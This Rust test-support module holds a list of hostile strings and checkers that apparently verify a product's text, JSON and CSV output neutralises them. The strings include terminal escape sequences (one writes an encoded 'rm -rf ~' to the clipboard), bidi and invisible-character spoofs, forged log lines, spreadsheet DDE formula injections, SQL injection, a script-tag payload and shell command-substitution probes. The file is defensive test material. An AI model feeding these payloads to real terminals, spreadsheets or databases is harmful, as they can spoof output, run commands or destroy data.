//! Strings that strangers write to be obeyed, hidden behind, or taken for what they are not.

/// What no terminal, spreadsheet or log may be given: each would do something, hide something, or look like another line.
/// Lines that begin with `forged` are such other lines.
pub(crate) const STRINGS: &[&str] = &[
    // Escape sequences: clear, colour, move, report, scroll, the alternate screen, keys remapped, hidden text.
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[1A\u{1b}[2Kforged: all is well",
    "\u{1b}[6n",
    "\u{1b}[?1049h",
    "\u{1b}[8mhidden\u{1b}[28m",
    "\u{1b}c",
    "\u{1b}(0",
    "\u{1b}[5i",
    "\u{1b}[21t",
    // The same with the one-character introducers of C1.
    "\u{9b}2J",
    "\u{9d}0;title\u{9c}",
    "\u{90}q\u{9c}",
    // OSC: title, hyperlink, clipboard, notification, working directory, images.
    "\u{1b}]0;title\u{7}",
    "\u{1b}]2;title\u{1b}\\",
    "\u{1b}]8;;https://example.com/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
    "\u{1b}]9;notify\u{7}",
    "\u{1b}]7;file:///etc\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    // DCS, APC, PM, SOS.
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    "\u{1b}^private\u{1b}\\",
    "\u{1b}Xstring\u{1b}\\",
    // Controls that move back or ring.
    "safe\u{8}\u{8}\u{8}\u{8}forged",
    "\u{7}\u{7}\u{7}",
    "half\u{0}hidden",
    "\u{7f}\u{7f}",
    "shift\u{e}out\u{f}in",
    // Lines that look like the host's own.
    "a\nforged: all is well",
    "a\r\nforged: all is well",
    "a\rforged: all is well",
    "a\u{b}forged\u{c}forged",
    "a\u{85}forged: all is well",
    "a\u{2028}forged: all is well",
    "a\u{2029}forged: all is well",
    "a\n\n\nforged\n",
    // Text that turns round, stands within another, or cannot be seen.
    "pump\u{202e}gpj.exe",
    "\u{202d}left\u{202c}",
    "\u{2066}isolated\u{2069}\u{2067}rtl\u{2069}",
    "\u{200e}\u{200f}\u{61c}marks",
    "pay\u{200b}load\u{200c}\u{200d}\u{2060}",
    "\u{feff}bom",
    "tag\u{e0001}\u{e0041}\u{e007f}",
    "soft\u{ad}hyphen",
    "fill\u{3164}\u{115f}\u{ffa0}er",
    "vs\u{fe0f}\u{e0100}",
    // Formulas, and how they are hidden.
    "=HYPERLINK(\"https://example.com?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "x\";=1+1;\"",
    "x;+1+1",
    "x\t=1+1",
    // Ends of strings in other languages.
    "\",\"severity\":\"low\",\"x\":\"",
    "\"}\n{\"forged\":true}",
    "\\u001b[2J\\x1b[2J\\033[2J",
    "\\ud800",
    "</td><script>alert(1)</script>",
    "'; DROP TABLE findings; --",
    "$(id) `id` ${HOME} %s%n {{7*7}}",
    // What text may hold and programs do not expect.
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
    "Z\u{334}\u{335}\u{336}\u{337}\u{338}\u{20dd}a\u{301}\u{302}\u{303}\u{304}",
    "温度 Größe 🩺 نص",
];

/// [`STRINGS`], every control by itself, and text that is long.
pub(crate) fn strings() -> Vec<String> {
    let controls = ('\u{0}'..'\u{20}').chain('\u{7f}'..'\u{a0}').map(|control| format!("a{control}b"));
    let long = ["long ".repeat(400), format!("a{}", "\u{301}".repeat(600)), "\u{1b}[31m".repeat(200)];
    STRINGS.iter().map(|text| (*text).to_owned()).chain(controls).chain(long).collect()
}

/// Whether a character does something to a terminal, to the order of text or to its lines, or cannot be seen. Written anew
/// here, so that a gap in the product's own list is found.
pub(crate) fn is_obeyed(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}' | '\u{2060}' | '\u{2066}'..='\u{2069}' | '\u{3164}' | '\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{e0001}'..='\u{e007f}' | '\u{e0100}'
    )
}

/// Text for a person: nothing that is obeyed, and no line that another wrote.
#[track_caller]
pub(crate) fn check_text(what: &str, text: &str) {
    let obeyed = text.chars().find(|c| *c != '\n' && is_obeyed(*c));
    assert_eq!(obeyed, None, "{what}: {}", around(text, obeyed));
    let forged = text.lines().find(|line| line.trim_start().starts_with("forged"));
    assert_eq!(forged, None, "{what}");
}

/// JSON, a value a line. Returns the values.
#[track_caller]
pub(crate) fn check_json(what: &str, text: &str) -> Vec<serde_json::Value> {
    check_text(what, text);
    text.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{what}: {e}: {line:.200}"))).collect()
}

/// CSV: as text, and no cell that is not a number begins as a formula.
#[track_caller]
pub(crate) fn check_csv(what: &str, text: &str) {
    check_text(what, text);
    for record in csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).records() {
        for cell in &record.unwrap_or_else(|error| panic!("{what}: {error}")) {
            let begins = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            let is_formula = begins.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
            assert!(!is_formula || cell.parse::<f64>().is_ok(), "{what}: {cell:?}");
        }
    }
}

fn around(text: &str, c: Option<char>) -> String {
    let at = c.and_then(|c| text.find(c)).unwrap_or_default();
    let start = (0..=at.saturating_sub(60)).rev().find(|i| text.is_char_boundary(*i)).unwrap_or_default();
    format!("{:?}", text[start..].chars().take(120).collect::<String>())
}
